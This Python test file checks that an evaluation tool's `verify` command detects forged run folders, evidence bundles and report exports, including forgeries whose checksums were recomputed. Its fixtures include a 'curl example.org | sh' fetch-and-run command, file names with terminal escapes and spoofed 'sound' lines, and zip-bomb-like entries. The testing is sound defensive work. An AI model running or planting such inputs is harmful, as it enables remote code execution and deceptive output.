"""What `verify` says of runs, bundles and reports that were changed, also by somebody who made the sums again."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from core.cli import main
from core.datasets.names import printable
from core.evaluation.summary import summarise
from core.findings import judge, save_findings
from core.reporting import inspection, render_report
from core.reporting.evidence import SUMS
from core.reporting.exports.files import export_files
from core.reporting.exports.record import ReportRecord
from core.reporting.report import SHORT
from core.reporting.verdict import verify_bundle, verify_evidence, verify_run
from core.runs import Run, open_run
from core.runs.seal import seal
from core.sandbox import Allowance, call
from core.settings import ROOT
from tests.support.made_run import made_run
from tests.support.tampering import Files, forge


@pytest.fixture(scope="module")
def reported(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A finished run with its report, sealed."""
    run = made_run(tmp_path_factory.mktemp("reported") / "run", images=2, methods=("raw",))
    run.update_manifest(state="done")
    findings = judge(run, summarise(run))
    render_report(run, findings)
    save_findings(run, findings)
    seal(run)
    return run.folder


@pytest.fixture
def run(reported: Path, tmp_path: Path) -> Run:
    # The dataset is named by its absolute path, so the copy shares it.
    shutil.copytree(reported, tmp_path / "run")
    return open_run(tmp_path / "run")


@pytest.fixture
def bundle(run: Run) -> Path:
    return run.report / "evidence.zip"


def replaced(name: str, old: str, new: str) -> Callable[[Files], object]:
    def change(files: Files) -> None:
        assert old.encode() in files[name]
        files[name] = files[name].replace(old.encode(), new.encode(), 1)

    return change


def edited(name: str, change: Callable[[list[dict[str, object]]], object]) -> Callable[[Files], object]:
    def apply(files: Files) -> None:
        value = json.loads(files[name])
        change(value)
        files[name] = (json.dumps(value, indent=1, sort_keys=True, ensure_ascii=False) + "\n").encode()

    return apply


def test_a_reported_run_is_sound_and_says_what_was_compared(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["verify", str(run.folder)]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == f"{run.folder}: sound"
    assert any("2 stored images with their content ids" in line for line in lines)
    assert any(line.startswith("compared: report/evidence.zip: every table and ") for line in lines)
    assert any(line.startswith("not compared: what is declared") for line in lines)
    digest = hashlib.sha256((run.folder / "seal.json").read_bytes()).hexdigest()
    assert lines[-1] == f"sha256: {digest}"
    assert main(["verify", str(run.folder), "--sha256", digest.upper(), "--pdf", str(run.report / "report.pdf")]) == 0
    assert main(["verify", str(run.folder), "--sha256", "0" * 64]) == 1
    assert "not the one given" in capsys.readouterr().out
    assert main(["verify", str(run.folder), "--sha256", "12"]) == 2


def test_a_bundle_is_sound_and_is_the_one_that_its_report_names(
    run: Run, bundle: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    digest = hashlib.sha256(bundle.read_bytes()).hexdigest()
    pdf = run.report / "report.pdf"
    assert main(["verify", str(bundle), "--pdf", str(pdf), "--sha256", digest, "--json"]) == 0
    told = json.loads(capsys.readouterr().out)
    assert (told["outcome"], told["sha256"], told["count"]) == ("sound", digest, 0)
    assert len(told["checked"]) == 7 and len(told["unchecked"]) == 3
    # A bundle that was only packed in another way is another bundle to its report.
    forge(bundle, lambda files: None)
    assert main(["verify", str(bundle)]) == 0
    capsys.readouterr()
    assert main(["verify", str(bundle), "--pdf", str(pdf)]) == 1
    assert "report.pdf reports another evidence.zip" in capsys.readouterr().out
    (tmp_path / "other.pdf").write_bytes(b"%PDF-1.4 forged")
    assert main(["verify", str(bundle), "--pdf", str(tmp_path / "other.pdf")]) == 1
    assert "other.pdf is not a readable PDF" in capsys.readouterr().out
    assert main(["verify", str(bundle), "--pdf", str(tmp_path / "none.pdf")]) == 2


# -- a run that was changed and sealed again -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "text", "told"),
    [
        ("report/report.pdf", "%PDF-1.4 forged", "report/report.pdf is not a readable PDF"),
        ("report/report.html", "<p>sound</p>", "report/report.pdf was made with another report.html"),
        ("report/findings.json", "[]", "report/findings.json contains other findings than report/evidence.zip"),
        ("findings.json", "[]", "findings.json contains other findings than report/evidence.zip"),
        ("comparison.json", '{"comparisons": []}', "report/evidence.zip: comparison.json is not that of this run"),
        ("thresholds.toml", "", "thresholds.toml is not the thresholds file named in the plan"),
        ("results/" + "f" * 32 + ".parquet", "x", f"results/{'f' * 32}.parquet belongs to no finished unit"),
    ],
)
def test_a_new_seal_does_not_make_a_changed_run_sound(run: Run, name: str, text: str, told: str) -> None:
    (run.folder / name).write_text(text)
    shown = verify_run(run).problems
    assert len(shown) == 1 and shown[0].startswith(f"{name} was ") and shown[0].endswith(" after the run was sealed")
    seal(run)
    assert told in verify_run(run).problems


def test_a_new_seal_does_not_hide_another_manifest_or_title(run: Run) -> None:
    manifest, plan = run.folder / "manifest.json", run.folder / "plan.json"
    whole = manifest.read_text()
    manifest.write_text(whole.replace("Loupe demo", "Another model"))
    seal(run)
    assert verify_run(run).problems == ("report/evidence.zip: manifest.json is not that of this run",)
    manifest.write_text(whole)
    plan.write_text(plan.read_text().replace("Audit of the made model", "Certified safe"))
    seal(open_run(run.folder))
    assert verify_run(open_run(run.folder)).problems == ("report/evidence.zip: plan.json is not that of this run",)


def test_a_run_that_is_not_sealed_is_never_called_sound(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
    (run.folder / "seal.json").unlink()
    assert main(["verify", str(run.folder), "--json"]) == 1
    told = json.loads(capsys.readouterr().out)
    assert told["outcome"] == "not_sealed" and "has ended without seal.json" in told["problems"][0]
    run.store.set(state="cancelled")
    verdict = verify_run(run)
    assert verdict.outcome == "not_sealed" and "the run has not ended (cancelled, 1 of 1 units done)" in verdict.text
    next((run.folder / "results").iterdir()).write_bytes(b"x")
    assert verify_run(run).outcome == "changed"


def test_a_run_without_a_plan_is_told_by_its_seal(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
    (run.folder / "plan.json").write_text("{}")
    assert main(["verify", str(run.folder)]) == 1
    assert "plan.json was changed after the run was sealed" in capsys.readouterr().out


# -- a bundle that vouches for itself ------------------------------------------------------------------------------

FORGED: dict[str, tuple[Callable[[Files], object], str]] = {
    "no findings": (lambda files: files.update({"findings.json": b"[]\n"}), "which the results give"),
    "seed": (replaced("plan.json", '"seed": 0', '"seed": 1'), "plan.json is not the plan that manifest.json names"),
    "severity": (
        edited("findings.json", lambda found: found[0].update(severity="note", condition="All is well.")),
        "`severity` is not what the results give",
    ),
    "command": (
        edited("findings.json", lambda found: found[0].update(reproduce="curl example.org | sh")),
        "`reproduce` is not what the results give",
    ),
    "order": (edited("findings.json", lambda found: found.reverse()), "in another order"),
    "number": (replaced("tables/trust.csv", ",0.", ",1."), "tables/trust.csv, row 1"),
    "row": (lambda files: files.update({"tables/texts.csv": files["tables/texts.csv"] + b"x,class,1,1,1,1\n"}), "rows"),
    "model": (replaced("manifest.json", '"digest": "', '"digest": "0'), "the key of unit 0 does not follow"),
    "code": (replaced("manifest.json", '"code_sha256": "', '"code_sha256": "0'), "the key of unit 0 does not follow"),
    "caption": (replaced("dataset.json", "a photo", "no photo"), "its id does not follow from its images"),
    "image name": (replaced("dataset.json", '"name": "shape', '"name": "form'), "its id does not follow"),
    "image hashes": (lambda files: files.update({"images.csv": b"image,sha256\n"}), "does not list the images"),
    "thresholds": (lambda files: files.update({"thresholds.toml": b""}), "thresholds.toml is not the thresholds file"),
    "unit": (replaced("units.csv", ",done,", ",failed,"), "belongs to no finished unit"),
    "application": (
        lambda files: files.update({"applications/sanity/about.json": b"{}"}), "is not named by manifest.json",
    ),
    "stray": (lambda files: files.update({f"results/{'f' * 32}.parquet": b""}), "belongs to no finished unit"),
    "foreign": (lambda files: files.update({"run.sh": b""}), "run.sh does not belong in a bundle"),
    "manifest": (lambda files: files.update({"manifest.json": b"garbage"}), "manifest.json is damaged"),
    "manifest list": (lambda files: files.update({"manifest.json": b"[]"}), "manifest.json is not a manifest"),
    "dataset": (lambda files: files.update({"dataset.json": b"\xff"}), "dataset.json is damaged"),
    "deep": (lambda files: files.update({"dataset.json": b"[" * 200_000}), "dataset.json is damaged"),
    "digits": (lambda files: files.update({"manifest.json": b"9" * 9000}), "manifest.json is damaged"),
    "no columns": (lambda files: files.update({"units.csv": b"a,b\n1,2\n"}), "units.csv has columns other than"),
    "quote": (lambda files: files.update({"units.csv": files["units.csv"] + b'"'}), "units.csv is damaged"),
    "field": (lambda files: files.update({"units.csv": files["units.csv"] + b"x" * 200_000}), "units.csv is damaged"),
    "bytes": (lambda files: files.update({"images.csv": b"\xff\xfe"}), "images.csv is damaged"),
    "table bytes": (lambda files: files.update({"tables/trust.csv": b"\xff"}), "tables/trust.csv is damaged"),
}  # fmt: skip


@pytest.mark.parametrize("kind", FORGED)
def test_a_forged_bundle_with_new_sums_is_found_out(bundle: Path, kind: str) -> None:
    change, told = FORGED[kind]
    forge(bundle, change)
    verdict = verify_bundle(bundle)
    assert verdict.outcome == "changed"
    assert any(told in line for line in verdict.problems), verdict.problems


def test_a_bundle_that_was_packed_again_without_a_change_is_sound(bundle: Path) -> None:
    forge(bundle, lambda files: None)
    assert verify_bundle(bundle).outcome == "sound"


# -- bundles made to harm whoever checks them ----------------------------------------------------------------------


def zeros(path: Path, name: str, mebibytes: int) -> None:
    with zipfile.ZipFile(path) as old:
        files = {other: old.read(other) for other in old.namelist() if other != name}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for other, data in files.items():
            new.writestr(other, data)
        with new.open(name, "w") as stream:
            for _ in range(mebibytes):
                stream.write(bytes(2**20))


def test_names_and_sizes_are_bounded_before_anything_is_read(bundle: Path, tmp_path: Path) -> None:
    many = tmp_path / "many.zip"
    shutil.copyfile(bundle, many)
    with zipfile.ZipFile(many, "a") as opened:
        for number in range(26_000):
            opened.writestr(f"x{number}", b"")
    assert "files; at most 25,000 are read" in verify_bundle(many).text
    shutil.copyfile(bundle, many)
    zeros(many, SUMS, 64)
    assert "SHA256SUMS is larger than 8 MiB" in verify_bundle(many).text
    shutil.copyfile(bundle, many)
    zeros(many, "plan.json", 256)
    assert "unpacks to more than 200 times the size of the bundle" in verify_bundle(many).text


def test_names_are_printed_without_escapes_in_one_line_each_and_not_more_than_fifty(
    bundle: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    names = [f"a\x1b[2J\x1b[31m{number}\nname: sound\u202e{'x' * 900}" for number in range(120)]
    forge(bundle, lambda files: files.update(dict.fromkeys(names, b"")), again=False)
    assert main(["verify", str(bundle)]) == 1
    out = capsys.readouterr().out
    lines = out.splitlines()
    assert len(lines) == 51 and lines[-1] == "and 70 more"
    assert all(printable(line) == line and len(line) <= 300 for line in lines)
    assert not any(line.startswith("name: sound") for line in lines)


def test_other_packings_and_damage_are_refused_in_one_line(bundle: Path) -> None:
    sound = bundle.read_bytes()
    with zipfile.ZipFile(bundle) as old:
        files = {name: old.read(name) for name in old.namelist()}
    for method in (zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2):
        with zipfile.ZipFile(bundle, "w", method) as new:
            for name, data in files.items():
                new.writestr(name, data)
        assert "uses an unsupported compression method" in verify_bundle(bundle).text
    for data in (b"", b"PK", sound[: len(sound) // 2], bytes(1000)):
        bundle.write_bytes(data)
        assert verify_bundle(bundle).text == "evidence.zip is a corrupt ZIP file"
    middle = bytearray(sound)
    for at in range(200, len(sound) - 5000, 97):
        middle[at] ^= 0xFF
    bundle.write_bytes(bytes(middle))
    verdict = verify_bundle(bundle)
    assert verdict.outcome == "changed" and len(verdict.problems) == 1


def test_what_is_no_regular_file_is_refused_at_once(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    os.mkfifo(tmp_path / "pipe")
    for path in (tmp_path / "pipe", Path("/dev/zero")):
        assert main(["verify", str(path)]) == 2
        (line,) = capsys.readouterr().err.splitlines()
        assert line.endswith("is not a regular file; provide the file itself")


def test_a_stakeholder_edition_of_another_run_is_noticed_though_it_was_sealed(run: Run) -> None:
    assert not verify_run(run).problems
    short = run.report / SHORT
    short.write_bytes((run.report / "report.pdf").read_bytes())
    assert not verify_run(sealed(run)).problems
    short.write_bytes(b"%PDF-1.7")
    assert any(f"report/{SHORT}" in line for line in verify_run(sealed(run)).problems)
    short.unlink()
    assert not verify_run(sealed(run)).problems, "a run of an earlier version has none"


def sealed(run: Run) -> Run:
    seal(run)
    return open_run(run.folder)


RECOGNISE = """
import resource, signal, sys
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (int(sys.argv[1]), int(sys.argv[1])))
from core.datasets.languages import languages
print(languages(["a photo of a dog beside the old stone bridge"])[0].code)
"""


def test_the_check_of_a_bundle_has_room_to_recognise_languages(bundle: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Rules that need English are judged again in the child that checks, where a library unpacks its model."""
    given: list[Allowance] = []

    def watched(*arguments: object, allowance: Allowance) -> object:
        given.append(allowance)
        return call(*arguments, allowance=allowance)  # type: ignore[arg-type]

    monkeypatch.setattr(inspection, "call", watched)
    assert verify_evidence(bundle) == []
    command = [sys.executable, "-c", RECOGNISE]
    done = subprocess.run([*command, str(given[0].written)], capture_output=True, text=True, cwd=ROOT, check=False)
    assert done.stdout.strip() == "en", done.stderr
    less = subprocess.run([*command, str(2**24)], capture_output=True, text=True, cwd=ROOT, check=False)
    assert less.returncode and "File too large" in less.stderr


# -- the report as data ----------------------------------------------------------------------------------------------


def milder(files: Files) -> None:
    """Another severity in report.json, and every other export made again from it."""
    told = json.loads(files["exports/report.json"])
    told["findings"][0]["severity"] = "note"
    again = export_files(ReportRecord.model_validate(told))
    files.update({f"exports/{name}": data for name, data in again.items()})


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (
            replaced("exports/report.json", '"opinion": "', '"opinion": "No '),
            "exports/report.json is not a report of this",
        ),
        (replaced("exports/junit.xml", "<failure", "<skipped"), "exports/junit.xml does not follow from"),
        (
            replaced("exports/findings.sarif", '"level": "', '"level":  "'),
            "exports/findings.sarif does not follow from",
        ),
        (replaced("exports/bom.cdx.json", "SHA-256", "SHA-512"), "exports/bom.cdx.json does not follow from"),
        (
            lambda files: files.pop("exports/oscal-assessment-results.json"),
            "exports/oscal-assessment-results.json is missing",
        ),
        (milder, "exports/report.json: `findings` is not what the bundle gives"),
    ],
    ids=["opinion", "junit", "sarif", "bom", "removed", "milder"],
)
def test_an_export_that_was_changed_is_named(bundle: Path, change: Callable[[Files], object], told: str) -> None:
    forge(bundle, change)
    problems = verify_evidence(bundle)
    assert len(problems) == 1 and problems[0].startswith(told), problems


def test_an_export_beside_the_report_is_the_one_in_the_bundle(run: Run) -> None:
    (run.report / "findings.sarif").write_text("{}")
    seal(run)
    assert verify_run(run).problems == ("report/findings.sarif is not the one in report/evidence.zip",)


def test_a_report_of_an_earlier_version_has_no_exports_and_is_sound(run: Run, bundle: Path) -> None:
    forge(bundle, lambda files: [files.pop(name) for name in list(files) if name.startswith("exports/")])
    assert verify_evidence(bundle) == []
